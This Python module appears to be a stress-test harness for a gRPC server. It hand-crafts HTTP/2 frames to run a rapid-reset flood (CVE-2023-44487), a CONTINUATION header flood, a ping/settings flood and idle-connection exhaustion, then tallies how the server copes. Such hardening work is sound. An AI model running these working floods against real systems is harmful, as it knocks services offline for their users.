"""Connections that no gRPC client would make: HTTP/2 frames by hand (RFC 9113), and connections that say nothing.

Each flood opens its own connections, does its worst and returns how the server took it: connections that it closed, and
those that stood to the end. They carry no token.
"""

from __future__ import annotations

import asyncio
import contextlib
import struct
from collections import Counter
from collections.abc import Awaitable, Callable

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, RST_STREAM, SETTINGS, PING, CONTINUATION = 1, 3, 4, 6, 9
END_HEADERS = 4
CANCEL = struct.pack(">I", 8)
METHOD = b"/kvrelay.v1.Generate/GenerateOnce"
FRAMES_AT_ONCE = 100
FRAME_BYTES = 16_384  # the largest that every peer takes
HOLD_S = 15.0  # longer than a server waits for a handshake
IGNORED_S = 5.0  # a server that reads nothing more for so long has had enough
LAST = b"the last"  # of a ping
Connection = tuple[asyncio.StreamReader, asyncio.StreamWriter]


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def header(name: bytes, value: bytes) -> bytes:
    """Literal, not indexed, lengths below 127 (RFC 7541, 6.2.2)."""
    return bytes((0, len(name))) + name + bytes((len(value),)) + value


CALL = b"".join(
    header(name, value)
    for name, value in (
        (b":method", b"POST"),
        (b":scheme", b"http"),
        (b":path", METHOD),
        (b":authority", b"x"),
        (b"content-type", b"application/grpc"),
        (b"te", b"trailers"),
    )
)


async def _connect(address: str, *, greet: bool = True) -> Connection:
    host, port = address.rsplit(":", 1)
    reader, writer = await asyncio.open_connection(host, int(port))
    if greet:
        writer.write(PREFACE + frame(SETTINGS, 0, 0))
        await writer.drain()
    return reader, writer


async def _flooded(address: str, frames: list[bytes]) -> str:
    """Writes as fast as the server takes it, reads all that comes, and waits until the last frame was heard."""
    reader, writer = await _connect(address)
    heard = asyncio.ensure_future(_until(reader, LAST))
    try:
        for start in range(0, len(frames), FRAMES_AT_ONCE):
            writer.write(b"".join(frames[start : start + FRAMES_AT_ONCE]))
            async with asyncio.timeout(IGNORED_S):
                await writer.drain()
        writer.write(frame(PING, 0, 0, LAST))
        async with asyncio.timeout(HOLD_S):
            return "taken" if await heard else "closed"
    except TimeoutError:
        return "not read any more"
    except ConnectionError:
        return "closed"
    finally:
        heard.cancel()
        writer.close()


async def _until(reader: asyncio.StreamReader, mark: bytes) -> bool:
    """Whether it came before the connection's end."""
    tail = b""
    with contextlib.suppress(ConnectionError):
        while data := await reader.read(1 << 16):
            tail = tail[-len(mark) :] + data
            if mark in tail:
                return True
    return False


async def _on(connections: int, work: Callable[[], Awaitable[str]]) -> Counter[str]:
    return Counter(await asyncio.gather(*(work() for _ in range(connections))))


async def rapid_reset(address: str, count: int) -> Counter[str]:
    """Streams opened and reset at once (CVE-2023-44487), a thousand to a connection."""
    streams = [frame(HEADERS, END_HEADERS, n, CALL) + frame(RST_STREAM, 0, n, CANCEL) for n in range(1, 2000, 2)]
    return await _on(-(-count // len(streams)), lambda: _flooded(address, streams))


async def pings_and_settings(address: str, count: int) -> Counter[str]:
    """Each wants an answer."""
    frames = [frame(PING, 0, 0, bytes(8)) + frame(SETTINGS, 0, 0)] * 5000
    return await _on(-(-count // 10_000), lambda: _flooded(address, frames))


async def endless_headers(address: str, count: int) -> Counter[str]:
    """A header list of a MiB, that never ends (CVE-2024-2653 and its like)."""
    more = header(b"x", bytes(120)) * (FRAME_BYTES // 124)
    frames = [frame(HEADERS, 0, 1, CALL), *[frame(CONTINUATION, 0, 1, more)] * 64]
    return await _on(count, lambda: _flooded(address, frames))


async def silent_connections(address: str, count: int) -> Counter[str]:
    """Half of them say nothing at all, half greet and ask for nothing."""

    async def silent(number: int) -> str:
        reader, writer = await _connect(address, greet=bool(number % 2))
        try:
            async with asyncio.timeout(HOLD_S):
                await reader.read()
            return "closed"
        except TimeoutError:
            return "stood"
        except ConnectionError:
            return "closed"
        finally:
            writer.close()

    return Counter(await asyncio.gather(*map(silent, range(count))))
